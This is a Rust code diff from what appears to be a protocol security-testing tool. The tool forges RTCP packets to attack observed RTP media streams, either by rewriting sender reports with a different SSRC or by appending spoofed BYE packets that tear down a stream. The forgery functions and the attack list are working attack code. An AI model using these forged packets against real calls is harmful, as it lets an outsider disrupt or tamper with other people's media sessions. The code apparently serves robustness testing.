@@ -11,7 +11,6 @@ const HEADER: usize = 8;
 const SSRC: std::ops::Range<usize> = HEADER + 4..HEADER + 8;
 /// Packet types of RTCP (RFC 3550 section 12.1).
 const SENDER_REPORT: u8 = 200;
-const RECEIVER_REPORT: u8 = 201;
 const BYE: u8 = 203;
 /// SSRC of the attacker.
 const OTHER: [u8; 4] = [0xba, 0xdc, 0x0f, 0xfe];
@@ -28,18 +27,14 @@ pub(super) fn forgeries(seen: &[Packet], attacker: Ipv4Addr) -> Vec<Attack> {
         });
         forged.collect()
     };
-    let same_ssrc = |packet: &Packet| {
-        let ssrc = packet.payload[SSRC].try_into().unwrap_or(OTHER);
-        bye(packet, ssrc)
-    };
-    let other_ssrc = |packet: &Packet| bye(packet, OTHER);
+    let bye_of_other = |packet: &Packet| bye(&with_other_ssrc(packet));
     let (any, own) = (Power::AnyAddress, Power::OwnAddress);
     let attacks = vec![
         Attack::new("report with another SSRC", any, all(&with_other_ssrc, None)),
         Attack::new("report with another SSRC", own, all(&with_other_ssrc, Some(attacker))),
-        Attack::new("BYE with the stream's SSRC", any, all(&same_ssrc, None)),
-        Attack::new("BYE with the stream's SSRC", own, all(&same_ssrc, Some(attacker))),
-        Attack::new("BYE with another SSRC", any, all(&other_ssrc, None)),
+        Attack::new("BYE with the stream's SSRC", any, all(&bye, None)),
+        Attack::new("BYE with the stream's SSRC", own, all(&bye, Some(attacker))),
+        Attack::new("BYE with another SSRC", any, all(&bye_of_other, None)),
     ];
     attacks.into_iter().filter(|attack| !attack.packets.is_empty()).collect()
 }
@@ -52,21 +47,21 @@ fn is_report(packet: &Packet) -> bool {
         && packet.payload[HEADER + 1] == SENDER_REPORT
 }
 
+/// Returns a report with another SSRC in all its parts.
 fn with_other_ssrc(packet: &Packet) -> Packet {
     let mut packet = packet.clone();
-    packet.payload[SSRC].copy_from_slice(&OTHER);
+    let ssrc = packet.payload[SSRC].to_vec();
+    for word in packet.payload[HEADER..].chunks_exact_mut(4).filter(|word| *word == ssrc) {
+        word.copy_from_slice(&OTHER);
+    }
     packet
 }
 
-/// Returns an empty receiver report and a BYE of a source, from and to the ports of a report (RFC 3550 sections 6.4.2
-/// and 6.6).
-fn bye(packet: &Packet, ssrc: [u8; 4]) -> Packet {
-    let mut payload = packet.payload[..HEADER].to_vec();
-    for kind in [[0x80, RECEIVER_REPORT], [0x81, BYE]] {
-        payload.extend_from_slice(&kind);
-        payload.extend_from_slice(&[0, 1]); // length in words, less one
-        payload.extend_from_slice(&ssrc);
-    }
+/// Returns a report with a BYE of its sender at the end (RFC 3550 section 6.6).
+fn bye(packet: &Packet) -> Packet {
+    let mut payload = packet.payload.clone();
+    payload.extend_from_slice(&[0x81, BYE, 0, 1]); // one source; length in words, less one
+    payload.extend_from_slice(&packet.payload[SSRC]);
     let length = payload.len() as u16;
     payload[4..6].copy_from_slice(&length.to_be_bytes());
     Packet { payload, ..packet.clone() }
